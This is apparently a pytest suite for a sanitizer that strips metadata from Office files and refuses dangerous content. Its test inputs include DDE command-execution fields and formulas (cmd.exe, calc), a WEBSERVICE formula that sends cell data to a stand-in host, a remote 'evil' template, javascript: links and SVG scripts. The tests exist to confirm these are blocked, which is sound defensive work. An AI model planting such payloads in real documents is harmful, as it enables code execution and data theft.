"""Office documents: what must not be in them, what is removed, and what is told because it stays."""

import io
import zipfile

import pytest

from goodoffices.engines.papers.tests.making import (
    OFFICE,
    PACKAGE,
    WORD,
    docx,
    jpeg,
    looked_at,
    office,
    ole,
    photo,
    png,
    refusal,
    relationships,
    xlsx,
)
from goodoffices.engines.papers.told import NotTaken


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def field(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def test_types_are_known_by_content():
    assert looked_at(docx(), "photo.jpg")[0] == "docx"
    assert looked_at(xlsx(), "letter.docx")[0] == "xlsx"
    assert looked_at(office("pptx", "<presentation/>"))[0] == "pptx"


def test_properties_go_and_only_their_names_are_told():
    _type, cleaned, told = looked_at(docx())
    everything = b"".join(parts_of(cleaned).values())
    assert b"Lena" not in everything and b"Idris" not in everything
    assert b"Article 1" in everything
    assert told == {
        "metadata-removed": {"code": "metadata-removed", "names": ["author", "last-author", "dates", "revision"]}
    }


def test_what_a_word_processor_knows_of_its_user_goes():
    settings = (
        f'<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="90"/>'
        '<w:rsids><w:rsidRoot w:val="00AB12CD"/><w:rsid w:val="00AB12CE"/></w:rsids><w:docVars><w:docVar w:name="x" w:val="Lena"/></w:docVars></w:settings>'
    )
    data = docx(
        '<w:p w:rsidR="00AB12CD" w:rsidRDefault="00AB12CE"><w:r w:rsidRPr="00AB12CF"><w:t>a w:rsidR="00000000" b</w:t></w:r></w:p>',
        {
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "file:///C:/Users/lena/Normal.dotm", "External")
            ),
            "word/people.xml": "<people><person author='Lena'/></people>",
            "customXml/item1.xml": "<p>Lena</p>",
            "docProps/thumbnail.jpeg": jpeg(),
        },
        own=(("settings", "settings.xml"), (f"{OFFICE}/people", "people.xml"), ("customXml", "../customXml/item1.xml")),
        root=((f"{PACKAGE}/metadata/thumbnail", "docProps/thumbnail.jpeg"),),
    )
    _type, cleaned, told = looked_at(data)
    parts = parts_of(cleaned)
    assert not any(b"lena" in part.lower() or b"AB12C" in part for part in parts.values())
    assert b'<w:t>a w:rsidR="00000000" b</w:t>' in parts["word/document.xml"], "words stay words"
    assert b'<w:zoom w:percent="90"/>' in parts["word/settings.xml"]
    assert set(parts) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/settings.xml",
    }
    assert {"template-removed", "thumbnail-removed", "people-removed", "custom-data-removed"} < told.keys()
    assert {"revision-marks", "custom"} < set(told["metadata-removed"]["names"])


def test_changes_comments_and_hidden_words_stay_and_are_told():
    body = (
        '<w:p><w:ins w:id="1" w:author="Lena"><w:r><w:t>shall</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="Idris"><w:r><w:delText>should</w:delText></w:r></w:del>'
        '<w:r><w:rPr><w:vanish/></w:rPr><w:t>red line</w:t></w:r><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>x</w:t></w:r>'
        '<w:r><w:rPr><w:rPrChange w:id="3" w:author="Lena"/></w:rPr></w:r></w:p>'
    )
    comments = '<comments><comment author="Lena"/><comment author="Lena"/></comments>'
    _type, cleaned, told = looked_at(docx(body, {"word/comments.xml": comments}, own=(("comments", "comments.xml"),)))
    assert body.encode() in parts_of(cleaned)["word/document.xml"]
    assert told["changes"] == {"code": "changes", "count": 3, "authors": 2}
    assert told["comments"] == {"code": "comments", "count": 2, "authors": 1}
    assert told["hidden"]["count"] == 1


def test_pictures_inside_are_cleaned_too():
    data = docx(parts={"word/media/image1.jpeg": photo()}, own=(("image", "media/image1.jpeg"),))
    _type, cleaned, told = looked_at(data)
    assert b"Lena" not in parts_of(cleaned)["word/media/image1.jpeg"]
    assert told["pictures-cleaned"] == {
        "code": "pictures-cleaned",
        "count": 1,
        "names": ["author", "position", "comment", "xmp", "iptc"],
    }
    huge = docx(
        parts={"word/media/image1.jpeg": png(width=60_000, height=60_000, pixels=b"")},
        own=(("image", "media/image1.jpeg"),),
    )
    assert refusal(huge) == "pixels"


def test_what_nothing_leads_to_does_not_come_along():
    _type, cleaned, told = looked_at(docx(parts={"word/old.xml": "<a>our red line</a>"}))
    assert "word/old.xml" not in parts_of(cleaned)
    assert told["unused-removed"]["bytes"] == 19


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_macros_are_refused(kind):
    types = {
        "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    }
    assert refusal(office(kind, "<x/>", type=types[kind])) == "macros"
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    assert refusal(office(kind, "<x/>", {f"{folder}/vbaProject.bin": ole("VBA")})) == "macros"
    microsoft = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    assert (
        refusal(office(kind, "<x/>", {f"{folder}/harmless.xml": "<x/>"}, own=((microsoft, "harmless.xml"),)))
        == "macros"
    )


@pytest.mark.parametrize("kind", ["oleObject", "package", "control", "aFChunk", "subDocument", "video", "audio"])
def test_objects_inside_are_refused(kind):
    assert refusal(docx(parts={"word/x.xml": "<x/>"}, own=((kind, "x.xml"),))) == "embedded"


def test_files_inside_are_refused_whatever_they_are_called():
    for data, code in (
        (ole("Ole10Native"), "embedded"),
        (b"MZ\x90\x00\x03" + bytes(100), "program"),
        (b"%PDF-1.7", "embedded"),
        (b"something", "embedded"),
    ):
        assert refusal(docx(parts={"word/media/image1.jpeg": data}, own=(("image", "media/image1.jpeg"),))) == code


@pytest.mark.parametrize(
    "kind", ["image", "oleObject", "frame", "subDocument", "externalLinkPath", "mailMergeSource", "video"]
)
def test_what_would_be_fetched_is_refused(kind):
    assert refusal(docx(own=((kind, "https://example.org/x", "External"),))) in {"remote", "embedded"}


@pytest.mark.parametrize("target", ["https://example.org/x.xml", "//host/x.xml", "file:///x"])
def test_what_calls_itself_inside_and_is_not_is_refused(target):
    assert refusal(docx(own=(("image", target),))) == "remote"


def test_properties_that_are_the_document_itself_are_refused():
    kind = f"{PACKAGE}/metadata/core-properties"
    assert refusal(docx(root=((kind, "word/document.xml"),))) == "damaged"


def test_a_template_from_elsewhere_is_cut_off_and_not_fetched():
    data = docx(own=(("attachedTemplate", "https://example.org/evil.dotm", "External"),))
    cleaned = looked_at(data)[1]
    assert not any(b"example.org" in part for part in parts_of(cleaned).values())


@pytest.mark.parametrize(
    ("address", "code"),
    [("https://un.org/", ""), ("mailto:a@example.org", ""), ("annex.docx", ""), ("file:///C:/x.exe", "link"), ("\\\\host\\share", "link"),
     ("//host/share", "link"), ("javascript:alert(1)", "link"), ("ms-word:ofe|u|https://example.org", "link"), (" FILE:x", "link")],
)  # fmt: skip
def test_links_lead_to_the_web_or_nowhere(address, code):
    assert refusal(docx(own=(("hyperlink", address, "External"),))) == code


@pytest.mark.parametrize(
    ("instructions", "code"),
    [((" PAGE ",), ""), ((' HYPERLINK "https://un.org" ',), ""), (("DDEAUTO c:\\\\cmd.exe",), "command"), (("DD", "EAUTO x"), "command"),
     ((' INCLUDEPICTURE "https://example.org/x.png"',), "command"), (('HYPERLINK "file:///x"',), "link"), ((r' HYPERLINK \h \o "Note: x" "file:///x" ',), "link"),
     ((r' HYPERLINK \l "annex" \o "Note: see" \h ',), ""), ((r'HYPERLINK "\\\\host\\share"',), "link"), (("MACROBUTTON Run x",), "link"),
     (("QUOTE 68 68 69",), "command")],
)  # fmt: skip
def test_fields_that_start_or_fetch_something_are_refused(instructions, code):
    assert refusal(docx(field(*instructions))) == code
    assert refusal(docx(f"<w:p><w:fldSimple w:instr='{''.join(instructions)}'/></w:p>")) == code


def test_a_workbook_loses_printers_paths_and_account_names():
    data = xlsx(
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("printerSettings", "../printerSettings/p1.bin")),
            "xl/printerSettings/p1.bin": "\\\\NORTH\\laser".encode("utf-16-le"),
            "xl/persons/person.xml": '<personList><person displayName="Lena" id="1" userId="S::lena@north.example" providerId="AD"/></personList>',
        },
        own=(("http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/person.xml"),),
        sheets="",
    )  # fmt: skip
    _type, cleaned, told = looked_at(data)
    parts = parts_of(cleaned)
    assert not any("printer" in name for name in parts)
    assert b'<pageSetup orientation="portrait"/>' in parts["xl/worksheets/sheet1.xml"]
    assert b'displayName="Lena" id="1" userId="" providerId=""' in parts["xl/persons/person.xml"]
    assert {"printer-removed", "people-removed"} < told.keys()


def test_a_pivot_table_loses_who_refreshed_it_and_its_hidden_figures_are_told():
    cache = '<pivotCacheDefinition refreshedBy="Lena" recordCount="1"/>'
    parts = {
        "xl/p.xml": cache,
        "xl/_rels/p.xml.rels": relationships(("pivotCacheRecords", "r.xml")),
        "xl/r.xml": '<pivotCacheRecords count="1"><r/></pivotCacheRecords>',
        "xl/revisions/log1.xml": '<revisions><rcc rId="1"/><rrc rId="2"/></revisions>',
        "xl/revisions/headers.xml": '<headers><header userName="Lena"/></headers>',
    }
    own = (
        ("pivotCacheDefinition", "p.xml"),
        ("revisionLog", "revisions/log1.xml"),
        ("revisionHeaders", "revisions/headers.xml"),
    )
    _type, cleaned, told = looked_at(xlsx(parts=parts, own=own))
    assert parts_of(cleaned)["xl/p.xml"] == b'<pivotCacheDefinition recordCount="1"/>'
    assert told["hidden"]["count"] == 1
    assert told["changes"] == {"code": "changes", "count": 2, "authors": 1}


def test_hidden_sheets_and_rows_are_told():
    book = xlsx(
        '<row hidden="1"><c><v>1</v></c></row>', sheets='<sheet name="B" sheetId="2" state="veryHidden" r:id="rId2"/>'
    )
    assert looked_at(book)[2]["hidden"]["count"] == 2


@pytest.mark.parametrize(
    ("formula", "code"),
    [("SUM(A1:A9)", ""), ('HYPERLINK("https://un.org","UN")', ""), ('WEBSERVICE("https://example.org/?"&amp;A1)', "command"),
     ("cmd|'/c calc'!A1", "command"), ('HYPERLINK("file:///x","y")', "link")],
)  # fmt: skip
def test_formulas_that_reach_out_are_refused(formula, code):
    assert refusal(xlsx(f"<row><c><f>{formula}</f></c></row>")) == code


@pytest.mark.parametrize("kind", ["externalLink", "connections", "queryTable"])
def test_data_from_elsewhere_is_refused(kind):
    assert refusal(xlsx(parts={"xl/x.xml": "<x/>"}, own=((kind, "x.xml"),))) == "remote"


def test_a_workbook_counts_a_threaded_comment_once():
    parts = {
        "xl/comments1.xml": '<comments><authors><author>tc={1}</author><author>Lena</author></authors><comment authorId="0"/><comment authorId="1"/></comments>',
        "xl/threadedComments/t1.xml": '<ThreadedComments><threadedComment personId="{2}"/></ThreadedComments>',
    }
    told = looked_at(
        xlsx(parts=parts, own=(("comments", "comments1.xml"), ("threadedComment", "threadedComments/t1.xml")))
    )[2]
    assert told["comments"] == {"code": "comments", "count": 2, "authors": 2}


def test_slides_that_are_hidden_or_have_notes_are_told():
    slide = '<sld show="0"><cNvPr hidden="1"/></sld>'
    parts = {
        "ppt/slides/slide1.xml": slide,
        "ppt/slides/_rels/slide1.xml.rels": relationships(("notesSlide", "../notesSlides/n1.xml")),
        "ppt/notesSlides/n1.xml": "<notes/>",
    }
    told = looked_at(office("pptx", "<presentation/>", parts, own=(("slide", "slides/slide1.xml"),)))[2]
    assert told["hidden"]["count"] == 2
    assert told["speaker-notes"]["count"] == 1


def test_a_slide_that_starts_a_program_is_refused():
    slide = '<sld><hlinkClick action="ppaction://program" id=""/></sld>'
    assert (
        refusal(office("pptx", "<presentation/>", {"ppt/slides/s.xml": slide}, own=(("slide", "slides/s.xml"),)))
        == "link"
    )


@pytest.mark.parametrize(
    ("svg", "code"),
    [("<svg><path d='M0 0'/></svg>", ""), ("<svg><script>1</script></svg>", "webpage"), ("<svg onload='x'/>", "webpage"),
     ("<svg xmlns:x='http://www.w3.org/1999/xlink'><image x:href='https://example.org/x'/></svg>", "remote")],
)  # fmt: skip
def test_drawings_inside_hold_no_script(svg, code):
    assert refusal(docx(parts={"word/media/a.svg": svg}, own=(("image", "media/a.svg"),))) == code


@pytest.mark.parametrize(
    ("data", "code", "save_as"),
    [(ole("WordDocument"), "legacy", ".docx"), (ole("Workbook"), "legacy", ".xlsx"), (ole("PowerPoint Document"), "legacy", ".pptx"),
     (b"{\\rtf1 x}", "legacy", ".docx"), (ole("EncryptedPackage"), "encrypted", ""), (ole("Other"), "unknown", "")],
)  # fmt: skip
def test_older_formats_are_refused_with_a_way_forward(data, code, save_as):
    with pytest.raises(NotTaken) as refused:
        looked_at(data, "letter.docx")
    assert refused.value.code == code
    assert refused.value.facts.get("save_as", "") == save_as
    assert save_as in str(refused.value)
